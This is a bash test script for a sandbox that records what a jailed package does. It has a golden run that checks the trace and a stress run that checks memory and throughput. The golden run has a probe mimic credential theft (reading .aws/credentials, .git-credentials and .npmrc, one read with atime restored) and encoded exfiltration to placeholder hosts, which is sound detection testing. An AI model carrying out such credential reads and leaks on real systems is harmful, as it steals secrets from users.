#!/bin/bash
# The recorder, golden: one jailed run in which the probe does known things;
# the trace must hold exactly the expected events (check_trace.py). Then the
# multi-threaded stress: 10k stops/s for 10 s lose nothing, and the
# supervisor's memory stays bounded. golden-noatime is the golden run
# with HOME on disk (--keep) on a noatime mount, where token-file reads fall back to inotify.
# ctest runs this inside an outer `unshare --net`.
#   recorder_test.sh root|rootless [golden|golden-noatime|stress]
set -u
MODE=${1:-root}
WHAT=${2:-golden}
HERE=$(cd "$(dirname "$0")" && pwd)
source "$HERE/../jail/lib.sh"
: "${PKGTRAP:?} ${PROBE:?} ${TEST_TMP:?}"
[ "$(id -u)" = 0 ] || { echo "skip: starts as root (root mode, and runuser for rootless)"; exit 77; }
if [ "$WHAT" = golden-noatime ] && [ -z "${RECORDER_TEST_MNTNS:-}" ]; then
  # A mount namespace of our own for the noatime tmpfs.
  exec env RECORDER_TEST_MNTNS=1 unshare --mount --propagation private -- bash "$0" "$@"
fi
PROBE_DIR=$(dirname "$PROBE")
WORK="$TEST_TMP/recorder-$MODE-$WHAT"
rm -rf "$WORK"; mkdir -p "$WORK/tmp" "$WORK/out"; chmod 0755 "$TEST_TMP" "$WORK"; chmod 1777 "$WORK/tmp" "$WORK/out"
export TMPDIR="$WORK/tmp"
SEEN_BY=atime
KEEP=()
if [ "$WHAT" = golden-noatime ]; then
  # HOME on disk (--keep), in TMPDIR: the noatime tmpfs.
  KEEP=(--keep)
  mount -t tmpfs -o noatime,mode=1777,size=64m pkgtrap-test "$TMPDIR" || { nok "mount a noatime tmpfs"; finish; }
  SEEN_BY=inotify
fi
if [ "$MODE" = rootless ]; then
  AS=(runuser -u nobody -- env "TMPDIR=$TMPDIR" "PKGTRAP_PROFILES=$PKGTRAP_PROFILES")
else
  AS=()
fi
TRACE="$WORK/out/trace.jsonl"
P=$PROBE

if [ "$WHAT" != stress ]; then
  script="/bin/echo hello-argv world
$P tcp 198.51.100.23 8080 hello-raw-bytes
$P dns beacon.example.test
$P http-post api.collector.test /upload form=1
$P tls cdn.example.test 203.0.113.9 443
$P read .aws/credentials
$P read-hidden .git-credentials
$P read-noatime .npmrc
$P openat2
$P leak-b64-post exfil.example.test
$P leak-b32-dns exfil.invalid
$P tcp 2001:db8::7 8443 v6-bytes
$P udp 203.0.113.5 9999 udp-payload
$P files /tmp
$P stage-file /tmp/stage.txt
$P exec-env
$P exec-scatter
$P exec-keyed
$P memfd-exec
$P syscall mount"
  out=$("${AS[@]}" "$PKGTRAP" run "${KEEP[@]}" --trace "$TRACE" --ro-bind "$PROBE_DIR" -- /bin/sh -c "$script" 2>&1); rc=$?
  expect_eq "the golden run exits 0" 0 "$rc"
  expect_match "the fake HTTP server answered" "reply HTTP/1.1 200 OK" "$out"
  expect_match "the memfd script ran" "memfd-ran" "$out"
  expect_match "O_NOATIME is refused, by open and by fcntl" "noatime open Operation not permitted fcntl Operation not permitted" "$out"
  expect_match "openat2 is answered ENOSYS" "openat2 Function not implemented" "$out"
  expect_match "the hidden read read the file and put atime back" "read-hidden .git-credentials [1-9][0-9]* utimensat 0" "$out"
  if python3 "$HERE/check_trace.py" "$TRACE" "$P" "$SEEN_BY"; then ok "trace matches the golden expectations"; else nok "trace matches the golden expectations"; fi
else
  # 8 threads, 10 s, 10000 write-opens per second in all: each one stops.
  /usr/bin/time -f "%M" -o "$WORK/rss" "${AS[@]}" "$PKGTRAP" run --trace "$TRACE" --ro-bind "$PROBE_DIR" --timeout 120 -- "$P" stress 8 10 10000 >"$WORK/out.txt" 2>&1
  rc=$?
  expect_eq "the stress run exits 0" 0 "$rc"
  expect_match "the probe did 100000 opens" "stress opens 100000" "$(cat "$WORK/out.txt")"
  n=$(grep -c '"path":"/tmp/stress-' "$TRACE")
  expect_eq "every one of the 100000 stops is in the trace" 100000 "$n"
  threads=$(grep '"kind":"exit"' "$TRACE" | wc -l)
  check "the run ended cleanly (exit event recorded)" test "$threads" -ge 1
  rss_kb=$(tail -1 "$WORK/rss")
  # ASan's shadow memory and quarantine multiply RSS; the bound still holds
  # a growing supervisor to account in that configuration.
  limit_kb=40960
  [ "${PKGTRAP_SANITIZED:-OFF}" = ON ] && limit_kb=524288
  check "the supervisor's peak RSS stays bounded (${rss_kb} KiB < ${limit_kb} KiB)" test "${rss_kb:-999999}" -lt "$limit_kb"
  echo "# stress: $(grep -o '"t":[0-9.]*' "$TRACE" | tail -1) ms, peak RSS ${rss_kb} KiB"
fi
[ "$WHAT" = golden-noatime ] && umount "$TMPDIR"
[ -n "${KEEP_WORK:-}" ] || rm -rf "$WORK"
finish
